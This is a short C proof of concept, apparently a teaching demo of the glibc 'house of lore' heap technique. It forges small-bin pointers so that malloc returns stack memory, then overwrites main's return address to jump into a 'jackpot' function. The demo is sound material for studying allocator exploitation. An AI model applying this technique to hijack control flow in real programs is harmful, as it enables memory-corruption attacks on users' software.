/* A forged small bin leads to the stack; main returns into another function. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <assert.h>
void jackpot(void) { printf("Nice jump\n"); exit(0); }
int main(int argc, char *argv[]) {
    intptr_t *stack_buffer_1[4] = {0};
    intptr_t *stack_buffer_2[4] = {0};
    void *fake_freelist[7][4];
    intptr_t *victim = malloc(0x100);
    void *dummies[7];
    for (int i = 0; i < 7; i++) dummies[i] = malloc(0x100);
    intptr_t *victim_chunk = victim - 2;
    for (int i = 0; i < 6; i++) fake_freelist[i][3] = fake_freelist[i + 1];
    fake_freelist[6][3] = NULL;
    stack_buffer_1[0] = 0;
    stack_buffer_1[1] = 0;
    stack_buffer_1[2] = victim_chunk;
    stack_buffer_1[3] = (intptr_t *)stack_buffer_2;
    stack_buffer_2[2] = (intptr_t *)stack_buffer_1;
    stack_buffer_2[3] = (intptr_t *)fake_freelist[0];
    void *p5 = malloc(1000);
    for (int i = 0; i < 7; i++) free(dummies[i]);
    free((void *)victim);
    void *p2 = malloc(1200);
    victim[1] = (intptr_t)stack_buffer_1;
    for (int i = 0; i < 7; i++) malloc(0x100);
    void *p3 = malloc(0x100);
    char *p4 = malloc(0x100);
    intptr_t sc = (intptr_t)jackpot;
    long offset = (long)__builtin_frame_address(0) - (long)p4;
    memcpy((p4 + offset + 8), &sc, 8);
    assert((long)__builtin_return_address(0) == (long)jackpot);
}
